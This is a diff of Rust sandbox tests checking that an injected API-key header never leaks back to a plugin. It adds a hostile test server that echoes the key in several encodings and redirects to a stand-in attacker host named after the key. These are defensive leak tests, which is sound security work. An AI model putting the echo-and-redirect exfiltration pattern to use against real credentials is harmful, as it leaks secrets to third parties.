@@ -423,13 +423,8 @@ async fn an_ip_literal_outside_an_allowed_cidr_is_denied() {
 async fn injected_credentials_reach_the_server_but_never_the_plugin() {
     let sb = sandbox();
     let (base, hits) = echo_server().await;
-    let secret = "s3cr3t-key-that-must-not-leak";
-    let inject = vec![InjectedHeader {
-        origin: OriginRule::parse(&base).unwrap(),
-        name: http::HeaderName::from_static("x-pan-key"),
-        value: Secret::new(secret),
-    }];
-    let p = probe(&sb, allow(&[&base], inject)).await;
+    let secret = SECRET;
+    let p = probe(&sb, with_key(&base)).await;
     p.handle(vec![event(
         1,
         "TEST.HTTP",
@@ -443,7 +438,25 @@ async fn injected_credentials_reach_the_server_but_never_the_plugin() {
     assert!(result.contains("x-pan-key: [redacted]"), "{result}");
     // …but the value never made it back into the guest.
     assert!(!result.contains(secret), "{result}");
-    let everything: Vec<u8> = sb
+    assert!(!everything_the_probe_stored(&sb).contains(secret));
+}
+
+/// What the tests inject as `x-pan-key` and look for everywhere after.
+const SECRET: &str = "s3cr3t-key-that-must-not-leak";
+
+/// `base` allowed, with [`SECRET`] injected as `x-pan-key` for it.
+fn with_key(base: &str) -> PluginSettings {
+    let inject = vec![InjectedHeader {
+        origin: OriginRule::parse(base).unwrap(),
+        name: http::HeaderName::from_static("x-pan-key"),
+        value: Secret::new(SECRET),
+    }];
+    allow(&[base], inject)
+}
+
+/// Every value in the probe's kv, as text.
+fn everything_the_probe_stored(sb: &Sandbox) -> String {
+    let values: Vec<u8> = sb
         .runtime
         .kv()
         .dump("probe")
@@ -451,7 +464,91 @@ async fn injected_credentials_reach_the_server_but_never_the_plugin() {
         .into_values()
         .flatten()
         .collect();
-    assert!(!String::from_utf8_lossy(&everything).contains(secret));
+    String::from_utf8_lossy(&values).into_owned()
+}
+
+/// A server that echoes the `x-pan-key` header it receives in the spellings
+/// a hostile or careless server might use, and redirects to a host named
+/// after it.
+async fn encoding_echo_server() -> String {
+    use base64::Engine as _;
+    let key = |h: &axum::http::HeaderMap| {
+        h.get("x-pan-key")
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or_default()
+            .to_owned()
+    };
+    let app = axum::Router::new()
+        .route(
+            "/encodings",
+            get(move |h: axum::http::HeaderMap| async move {
+                let k = key(&h);
+                let b64 = base64::engine::general_purpose::STANDARD;
+                let unicode: String = k.chars().map(|c| format!("\\u{:04x}", c as u32)).collect();
+                let body = format!(
+                    "b64={} basic={} hex={} HEX={} upper={} json={} pct={}",
+                    b64.encode(&k),
+                    b64.encode(format!("admin:{k}")),
+                    hex::encode(&k),
+                    hex::encode(&k).to_uppercase(),
+                    k.to_uppercase(),
+                    unicode,
+                    k.bytes().map(|b| format!("%{b:02X}")).collect::<String>(),
+                );
+                ([("x-echo-b64", b64.encode(&k))], body)
+            }),
+        )
+        .route(
+            "/away",
+            get(move |h: axum::http::HeaderMap| async move {
+                let to = format!("http://{}.attacker.invalid/", key(&h));
+                axum::response::Redirect::temporary(&to)
+            }),
+        );
+    let tcp = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = tcp.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(tcp, app).await.unwrap() });
+    format!("http://{addr}")
+}
+
+#[tokio::test]
+async fn encoded_echoes_and_redirects_of_an_injected_secret_never_reach_the_plugin() {
+    use base64::Engine as _;
+    let sb = sandbox();
+    let base = encoding_echo_server().await;
+    let secret = SECRET;
+    let p = probe(&sb, with_key(&base)).await;
+    p.handle(vec![
+        event(
+            1,
+            "TEST.HTTP",
+            serde_json::json!({"url": format!("{base}/encodings")}),
+        ),
+        event(
+            2,
+            "TEST.HTTP",
+            serde_json::json!({"url": format!("{base}/away")}),
+        ),
+    ])
+    .await
+    .unwrap();
+    let echoed = kv_text(&sb, "http/1").unwrap();
+    assert!(echoed.contains("b64=[redacted]"), "{echoed}");
+    let denied = kv_text(&sb, "http/2").unwrap();
+    assert!(denied.contains("Denied"), "{denied}");
+    let b64 = base64::engine::general_purpose::STANDARD;
+    let everything = everything_the_probe_stored(&sb);
+    for spelling in [
+        secret.to_owned(),
+        secret.to_uppercase(),
+        b64.encode(secret),
+        hex::encode(secret),
+    ] {
+        assert!(
+            !everything.contains(&spelling),
+            "{spelling} in {everything}"
+        );
+    }
 }
 
 #[tokio::test]
